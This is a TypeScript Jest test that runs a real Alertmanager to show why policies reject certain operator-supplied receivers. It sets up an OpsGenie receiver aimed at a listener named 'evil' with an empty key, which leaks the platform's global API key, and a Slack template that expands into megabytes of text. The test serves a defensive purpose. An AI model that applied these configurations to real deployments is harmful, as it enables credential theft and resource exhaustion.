import { afterAll, beforeAll, expect, it } from '@jest/globals';
import { type RunningAlertmanager, startAlertmanager } from '../harness/alertmanager.ts';
import { sendRequest } from '../harness/http-request.ts';
import { freePort } from '../harness/places.ts';
import { poll } from '../harness/poll.ts';
import { describeReal } from '../harness/skip.ts';
import { exposingServers } from './exposing-servers.ts';

/** A notification, as it arrived. */
interface Notification {
  readonly path: string;
  readonly authorization: string | undefined;
  readonly length: number;
}

// Why the policies refuse such receivers: what Alertmanager makes of what the operator would hand it.
await describeReal('receivers, as Alertmanager takes them', ['alertmanager'], () => {
  const servers = exposingServers();
  const received: Notification[] = [];
  let alertmanager: RunningAlertmanager;

  beforeAll(async () => {
    const port = await freePort();
    await servers.listen(port, (request, response) => {
      const { url: path = '', headers } = request;
      let length = 0;
      request.on('data', (chunk: Buffer) => {
        length += chunk.length;
      });
      request.on('end', () => {
        received.push({ path, authorization: headers.authorization, length });
        response.end('{}');
      });
    });
    const evil = `http://127.0.0.1:${port}`;
    const text = '{{ range 300000 }}xxxxxxxxxx{{ end }}';
    alertmanager = await startAlertmanager(
      JSON.stringify({
        global: { opsgenie_api_key: 'key-of-the-platform' },
        route: {
          receiver: 'key',
          group_wait: '0s',
          routes: [{ receiver: 'text', matchers: ['of="text"'], group_wait: '0s' }],
        },
        receivers: [
          { name: 'key', opsgenie_configs: [{ api_url: `${evil}/opsgenie/`, api_key: '' }] },
          { name: 'text', slack_configs: [{ api_url: `${evil}/slack`, text }] },
        ],
      }),
    );
  });

  afterAll(async () => {
    servers.stop();
    await alertmanager.stop();
  });

  const alert = async (of: string, path: string): Promise<Notification> => {
    const { status } = await sendRequest({
      url: `${alertmanager.url}/api/v2/alerts`,
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify([{ labels: { alertname: 'a', of } }]),
    });
    expect(status).toBe(200);
    return poll(async () => Promise.resolve(received.find((it) => it.path.startsWith(path))), {
      what: `a notification at ${path}`,
    });
  };

  it("show the platform's credential to an address of their own, beside an empty one", async () => {
    const { authorization } = await alert('key', '/opsgenie/');
    expect(authorization).toBe('GenieKey key-of-the-platform');
  });

  it('make a text of megabytes from a few letters', async () => {
    const { length } = await alert('text', '/slack');
    expect(length).toBeGreaterThan(3_000_000);
  });
});
